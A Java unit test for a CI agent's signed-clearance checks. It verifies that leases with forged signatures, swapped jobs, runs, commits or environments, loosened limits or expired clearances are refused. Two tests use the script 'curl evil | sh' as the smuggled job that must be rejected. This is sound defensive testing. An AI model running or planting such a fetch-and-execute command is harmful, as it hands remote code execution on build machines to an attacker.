package dev.holdfast.agent.policy;

import static dev.holdfast.agent.link.ClearedLeases.UNTIL;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.holdfast.agent.job.Jobs;
import dev.holdfast.agent.link.ClearedLeases;
import dev.holdfast.model.approval.Clearance;
import dev.holdfast.model.approval.StepClearance;
import dev.holdfast.model.decision.Egress;
import dev.holdfast.model.decision.Limits;
import dev.holdfast.model.definition.EnvironmentName;
import dev.holdfast.model.definition.EnvironmentPattern;
import dev.holdfast.model.definition.Job;
import dev.holdfast.model.definition.Name;
import dev.holdfast.model.definition.Step;
import dev.holdfast.model.definition.Tier;
import dev.holdfast.model.event.CommitId;
import dev.holdfast.model.event.Contributor;
import dev.holdfast.model.event.Event;
import dev.holdfast.model.plan.PlannedJob;
import dev.holdfast.model.trust.Trust;
import dev.holdfast.model.wire.agent.AgentApi;
import dev.holdfast.model.wire.agent.AgentApi.Cleared;
import dev.holdfast.model.wire.agent.AgentApi.Entered;
import dev.holdfast.model.wire.agent.AgentApi.Lease;
import dev.holdfast.model.wire.agent.AgentApi.Source;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.InstantSource;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What somebody in the database or on the way would change about a lease. */
class ClearingTest {
  @TempDir Path data;
  private Instant now = ClearedLeases.UNTIL.minusMillis(1);
  private final InstantSource clock = () -> now;
  private Clearing clearing;
  private final Lease good = ClearedLeases.cleared(lease("make test"));

  private static Lease lease(String script) {
    return Jobs.lease(
        Optional.empty(),
        List.of(
            new Step.Command(
                "only",
                script,
                Map.of("B", "2", "A", "1"),
                Optional.empty(),
                Optional.empty(),
                Optional.empty())),
        Optional.empty());
  }

  @BeforeEach
  void meet() throws IOException {
    clearing = Clearing.in(data, clock);
    clearing.met(Optional.of(ClearedLeases.key()));
  }

  private void refused(Lease lease, String why) {
    assertThat(clearing.refusal(good)).as("control").isEmpty();
    assertThat(clearing.refusal(lease)).hasValueSatisfying(said -> assertThat(said).contains(why));
  }

  private Lease like(Lease lease) {
    return ClearedLeases.with(lease, good.cleared().orElseThrow());
  }

  /** A lease of a job that asks for production, in these environments, with these granted. */
  private static Lease in(List<String> leased, List<String> granted) {
    Lease plain = lease("make test");
    Job job = plain.job().job();
    var asks =
        new Job(
            job.name(),
            job.needs(),
            job.runsOn(),
            job.image(),
            job.env(),
            job.matrix(),
            job.directory(),
            job.when(),
            job.timeout(),
            job.tier(),
            job.user(),
            job.services(),
            job.approval(),
            List.of(new EnvironmentPattern("production")),
            job.steps());
    var lease =
        new Lease(
            plain.attempt(),
            plain.fence(),
            plain.number(),
            plain.run(),
            plain.workflow(),
            new PlannedJob(plain.job().key(), Map.of(), List.of(), asks),
            plain.event(),
            plain.source(),
            plain.sources(),
            plain.outputs(),
            plain.tier(),
            plain.pinned(),
            plain.servicePins(),
            Optional.empty(),
            leased.stream()
                .map(name -> new Entered(new EnvironmentName(name), Map.of("A", "1")))
                .toList());
    Clearance clearance = ClearedLeases.clearance(lease);
    return ClearedLeases.cleared(
        lease,
        new Clearance(
            clearance.repository(),
            clearance.run(),
            clearance.event(),
            clearance.workflow(),
            clearance.head(),
            clearance.definition(),
            clearance.jobs(),
            clearance.floor(),
            clearance.limits(),
            clearance.trust(),
            clearance.by(),
            clearance.at(),
            clearance.until(),
            granted.stream().map(EnvironmentName::new).toList()));
  }

  @Test
  void anEnvironmentThatWasNotGrantedIsRefused_andSoIsAJobWithoutItsOwn() {
    assertThat(clearing.refusal(in(List.of("production"), List.of("production"))))
        .as("control")
        .isEmpty();
    refused(
        in(List.of("production"), List.of("staging")),
        "the environment production was not granted");
    refused(in(List.of("production"), List.of()), "the environment production was not granted");
    refused(
        in(List.of(), List.of("production")),
        "asks for the environments [production], leased was []");
    refused(
        in(List.of("production", "staging"), List.of("production", "staging")),
        "leased was [production, staging]");
  }

  @Test
  void aClearanceToWhichAnEnvironmentWasAddedIsNotTheOneThatWasSigned() {
    Lease without = in(List.of("production"), List.of());
    Lease with = in(List.of("production"), List.of("production"));
    Clearance.Signed signed = without.cleared().orElseThrow().clearance();
    refused(
        ClearedLeases.with(
            with,
            new Cleared(
                new Clearance.Signed(
                    with.cleared().orElseThrow().clearance().clearance(), signed.signature()),
                ClearedLeases.definition(with))),
        "not signed by the orchestrator's key");
  }

  @Test
  void aLeaseWithoutAClearanceIsRefused() {
    refused(lease("make test"), "no clearance");
  }

  @Test
  void anotherJobUnderTheClearanceOfThisOneIsRefused() {
    refused(like(altered(lease("curl evil | sh"))), "not one of the definition's");
  }

  /** Another script in the same event of the same commit. */
  private Lease altered(Lease other) {
    return new Lease(
        good.attempt(),
        good.fence(),
        good.number(),
        good.run(),
        good.workflow(),
        other.job(),
        good.event(),
        good.source(),
        good.sources(),
        good.outputs());
  }

  private Lease at(Source source, Event event, Name workflow) {
    return like(
        new Lease(
            good.attempt(),
            good.fence(),
            good.number(),
            good.run(),
            workflow,
            good.job(),
            event,
            source,
            good.sources(),
            good.outputs()));
  }

  @Test
  void anotherCommitRepositoryWorkflowOrEventIsRefused() {
    Source source = good.source();
    refused(
        at(
            new Source(
                source.repository(),
                source.name(),
                source.url(),
                source.ref(),
                new CommitId("e".repeat(40))),
            good.event(),
            good.workflow()),
        "commit");
    refused(
        at(
            new Source("repo_2", source.name(), source.url(), source.ref(), source.commit()),
            good.event(),
            good.workflow()),
        "repository");
    refused(at(source, good.event(), new Name("deploy")), "workflow");
    Event event = good.event();
    refused(
        at(
            source,
            new Event(
                event.delivery(),
                event.repository(),
                event.at(),
                Optional.of(new Contributor("github", "1", "somebody else")),
                event.happening()),
            good.workflow()),
        "event");
  }

  @Test
  void aClearanceThatWasChangedOrSignedByAnotherKeyIsRefused() {
    Clearance clearance = ClearedLeases.clearance(good);
    refused(ClearedLeases.cleared(good, clearance, ClearedLeases.anotherKey()), "not signed");
    Limits unlimited = Limits.NONE;
    refused(
        forged(clearance, changed(clearance, Tier.NONE, unlimited, Trust.TRUSTED, UNTIL)),
        "not signed");
    Clearance restricted =
        changed(clearance, Tier.MICROVM, Limits.RESTRICTED, Trust.UNKNOWN, UNTIL);
    for (Clearance loosened :
        List.of(
            changed(restricted, Tier.NONE, Limits.RESTRICTED, Trust.UNKNOWN, UNTIL),
            changed(
                restricted,
                Tier.MICROVM,
                new Limits(true, false, Egress.LISTED, false),
                Trust.UNKNOWN,
                UNTIL),
            changed(
                restricted,
                Tier.MICROVM,
                new Limits(false, true, Egress.LISTED, false),
                Trust.UNKNOWN,
                UNTIL),
            changed(
                restricted,
                Tier.MICROVM,
                new Limits(false, false, Egress.PUBLIC, false),
                Trust.UNKNOWN,
                UNTIL),
            changed(
                restricted,
                Tier.MICROVM,
                new Limits(false, false, Egress.LISTED, true),
                Trust.UNKNOWN,
                UNTIL),
            changed(
                restricted,
                Tier.MICROVM,
                Limits.RESTRICTED,
                Trust.UNKNOWN,
                UNTIL.plusSeconds(1)))) {
      refused(forged(restricted, loosened), "not signed");
    }
    assertThat(clearing.refusal(ClearedLeases.cleared(good, restricted))).as("control").isEmpty();
  }

  /** What stands where a signed clearance was, under its signature. */
  private Lease forged(Clearance signed, Clearance now) {
    String signature =
        ClearedLeases.cleared(good, signed).cleared().orElseThrow().clearance().signature();
    return ClearedLeases.with(
        good, new Cleared(new Clearance.Signed(now, signature), ClearedLeases.definition(good)));
  }

  private static Clearance changed(
      Clearance of, Tier floor, Limits limits, Trust trust, Instant until) {
    return new Clearance(
        of.repository(),
        of.run(),
        of.event(),
        of.workflow(),
        of.head(),
        of.definition(),
        of.jobs(),
        floor,
        limits,
        trust,
        of.by(),
        of.at(),
        until);
  }

  @Test
  void aWeakerWallThanTheClearedOneIsRefused_whateverTheQueueSays() {
    Clearance clearance =
        changed(ClearedLeases.clearance(good), Tier.CONTAINER, Limits.NONE, Trust.KNOWN, UNTIL);
    Lease lease = ClearedLeases.cleared(good, clearance);
    assertThat(lease.tier()).isEmpty();
    AgentPolicy policy = AgentPolicy.standard();
    assertThat(policy.refusal(lease, AgentApi.Backend.NAMESPACES))
        .hasValueSatisfying(why -> assertThat(why).contains("wants the tier container"));
    assertThat(policy.refusal(lease, AgentApi.Backend.CONTAINER)).isEmpty();
    assertThat(policy.refusal(good, AgentApi.Backend.NAMESPACES)).as("control").isEmpty();
  }

  @Test
  void anotherRunUnderTheClearanceOfThisOneIsRefused() {
    refused(
        like(
            new Lease(
                good.attempt(),
                good.fence(),
                good.number(),
                "run_of_another",
                good.workflow(),
                good.job(),
                good.event(),
                good.source(),
                good.sources(),
                good.outputs())),
        "run");
  }

  @Test
  void aJobThatIsRootWhereNoRootWasClearedIsRefused() {
    Lease root = ClearedLeases.cleared(Jobs.root(lease("make test")));
    assertThat(clearing.refusal(root)).as("control").isEmpty();
    refused(
        ClearedLeases.cleared(root, ClearedLeases.clearance(root, Limits.RESTRICTED)),
        "is root, which was not cleared");
  }

  @Test
  void whatWasClearedOnceIsRefusedAfterItsEnd() {
    assertThat(clearing.refusal(good)).as("control").isEmpty();
    now = ClearedLeases.UNTIL;
    assertThat(clearing.refusal(good))
        .hasValueSatisfying(why -> assertThat(why).contains("cleared until 2100"));
  }

  @Test
  void aDefinitionThatIsNotTheClearedOneIsRefused() {
    Lease other = altered(lease("curl evil | sh"));
    refused(
        ClearedLeases.with(
            other,
            new Cleared(good.cleared().orElseThrow().clearance(), ClearedLeases.definition(other))),
        "definition");
  }

  @Test
  void anotherKeyThanTheOneThatWasMetFirstIsRefusedForEver() throws IOException {
    assertThatThrownBy(
            () -> clearing.met(Optional.of(ClearedLeases.text(ClearedLeases.anotherKey()))))
        .isInstanceOf(IOException.class)
        .hasMessageContaining("orchestrator.key");
    assertThatThrownBy(() -> clearing.met(Optional.empty())).hasMessageContaining("no key");
    Clearing restarted = Clearing.in(data, clock);
    assertThat(restarted.refusal(good)).as("before it met anybody").isPresent();
    restarted.met(Optional.of(ClearedLeases.key()));
    assertThat(restarted.refusal(good)).isEmpty();
    assertThat(Files.readString(data.resolve("orchestrator.key")).strip())
        .isEqualTo(ClearedLeases.key());
  }

  private StepClearance step(Lease lease, String run, int number) {
    return StepClearance.of(
        lease.source().repository(),
        run,
        ClearedLeases.definition(lease).digest(),
        lease.job().job().name(),
        number,
        List.of("usr_1"),
        now);
  }

  @Test
  void aStepIsReleasedBySignatureForItselfInItsRunForADay() {
    Lease lease = good;
    assertThat(clearing.refusal(lease, 0, ClearedLeases.signed(step(lease, lease.run(), 0))))
        .as("control")
        .isEmpty();
    assertThat(clearing.refusal(lease, 0, ClearedLeases.signed(step(lease, lease.run(), 1))))
        .hasValueSatisfying(why -> assertThat(why).contains("another step"));
    assertThat(clearing.refusal(lease, 0, ClearedLeases.signed(step(lease, "run_another", 0))))
        .hasValueSatisfying(why -> assertThat(why).contains("another run"));
    var forged =
        new StepClearance.Signed(
            step(lease, lease.run(), 0),
            ClearedLeases.signed(step(lease, lease.run(), 1)).signature());
    assertThat(clearing.refusal(lease, 0, forged))
        .hasValueSatisfying(why -> assertThat(why).contains("not signed"));
    var signed = ClearedLeases.signed(step(lease, lease.run(), 0));
    now = signed.clearance().until();
    assertThat(clearing.refusal(lease, 0, signed))
        .hasValueSatisfying(why -> assertThat(why).contains("counted until"));
  }

  @Test
  void whoHasNoOrchestratorAsksForNoClearance() {
    assertThat(Clearing.notAsked().refusal(lease("make test"))).isEmpty();
  }
}
